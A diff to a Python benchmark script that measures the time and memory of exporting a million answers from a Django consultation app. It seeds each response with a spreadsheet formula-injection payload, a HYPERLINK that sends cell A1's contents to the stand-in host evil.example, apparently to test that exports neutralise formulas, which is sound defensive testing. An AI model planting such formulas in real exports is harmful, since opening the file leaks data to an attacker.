@@ -3,19 +3,22 @@
 python -m bench.export_responses [responses] [questions]
 
 Defaults: 50,000 responses of 20 answers (one million answers). Prints one JSON line per
-format with the seconds taken and the process's resident memory: before, peak while
-exporting, and the peak's growth over before (what the export itself held). Targets:
-under 60 s and under 200 MB.
+format with the seconds taken, the process's resident memory (before, peak while exporting,
+and the growth), and the peak of the Python heap during a second, traced export: what the
+export itself held, whatever the database keeps in the process (in-memory SQLite does).
+Targets: under 60 s and under 200 MB.
 """
 
 import random
 import sys
 import threading
 import time
+import tracemalloc
 from contextlib import contextmanager
 
 from bench.harness import emit, setup_django, throwaway_database
 
+HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'
 WORDS = tuple(
     [
         "research",
@@ -82,7 +85,8 @@ def peak_rss():
 
 
 def populate(responses: int, questions: int):
-    from django.db import transaction
+    """Responses in bulk, then their answers copied from one template response in a single INSERT … SELECT."""
+    from django.db import connection, transaction
     from django.utils import timezone
 
     from consultations.duplicates import fingerprint
@@ -106,10 +110,9 @@ def populate(responses: int, questions: int):
         for n in range(questions)
     ]
     now = timezone.now()
-    batch = 2000
-    for start in range(0, responses, batch):
-        with transaction.atomic():
-            rows = Response.objects.bulk_create(
+    with transaction.atomic():
+        for start in range(0, responses, 5000):
+            Response.objects.bulk_create(
                 Response(
                     consultation=consultation,
                     status="submitted",
@@ -124,33 +127,49 @@ def populate(responses: int, questions: int):
                     consent="private",
                     submitted_at=now,
                 )
-                for n in range(start, min(start + batch, responses))
+                for n in range(start, min(start + 5000, responses))
             )
-            answers = []
-            for row in rows:
-                for question in made:
-                    if question.kind == "text":
-                        text = " ".join(rng.choices(WORDS, k=20))
-                        if rng.random() < 0.01:
-                            text = '=HYPERLINK("http://evil.example","x")'
-                        answers.append(
-                            Answer(response=row, question=question, text=text, fingerprint=fingerprint(text))
-                        )
-                    else:
-                        first_option = question.option_choices()[0][0]
-                        answers.append(Answer(response=row, question=question, selected=[first_option]))
-            Answer.objects.bulk_create(answers, batch_size=5000)
+        template = Response.objects.filter(consultation=consultation).order_by("pk").first()
+        for number, question in enumerate(made):
+            if question.kind == "text":
+                # One free-text answer in each response starts like a formula, as a hostile one would.
+                text = HOSTILE if number == 0 else " ".join(rng.choices(WORDS, k=20))
+                Answer.objects.create(response=template, question=question, text=text, fingerprint=fingerprint(text))
+            else:
+                Answer.objects.create(response=template, question=question, selected=[question.option_choices()[0][0]])
+        columns = "response_id, question_id, selected, text, fingerprint, note, publication, published_text, " \
+            "moderation_reasons"  # fmt: skip
+        with connection.cursor() as cursor:
+            cursor.execute(
+                f"INSERT INTO consultations_answer ({columns}) "  # noqa: S608 - no user input
+                "SELECT r.id, a.question_id, a.selected, a.text, a.fingerprint, a.note, a.publication, "
+                "a.published_text, a.moderation_reasons "
+                "FROM consultations_response r CROSS JOIN consultations_answer a "
+                "WHERE a.response_id = %s AND r.consultation_id = %s AND r.id <> %s",
+                [template.pk, consultation.pk, template.pk],
+            )
     return consultation
 
 
 def export(client, url: str) -> tuple[float, int, dict]:
+    """Once timed, with resident memory sampled; then again under tracemalloc for the Python heap's peak."""
     with peak_rss() as memory:
         started = time.perf_counter()
-        response = client.get(url)
-        assert response.status_code == 200, response.status_code
-        size = sum(len(chunk) for chunk in response.streaming_content)
+        size = _download(client, url)
         elapsed = time.perf_counter() - started
+    tracemalloc.start()
+    _download(client, url)
+    memory["heap_peak_mb"] = tracemalloc.get_traced_memory()[1] / 2**20
+    tracemalloc.stop()
     return elapsed, size, memory
+
+
+def _download(client, url: str) -> int:
+    response = client.get(url)
+    assert response.status_code == 200, response.status_code
+    size = sum(len(chunk) for chunk in response.streaming_content)
+    response.close()
+    return size
 
 
 def main(responses: int, questions: int) -> None:
@@ -181,6 +200,7 @@ def main(responses: int, questions: int) -> None:
                     "rss_before_mb": round(memory["before_mb"], 1),
                     "rss_peak_mb": round(memory["peak_mb"], 1),
                     "rss_growth_mb": round(memory["peak_mb"] - memory["before_mb"], 1),
+                    "python_heap_peak_mb": round(memory["heap_peak_mb"], 1),
                     "target": "under 60 s and 200 MB",
                 }
             )
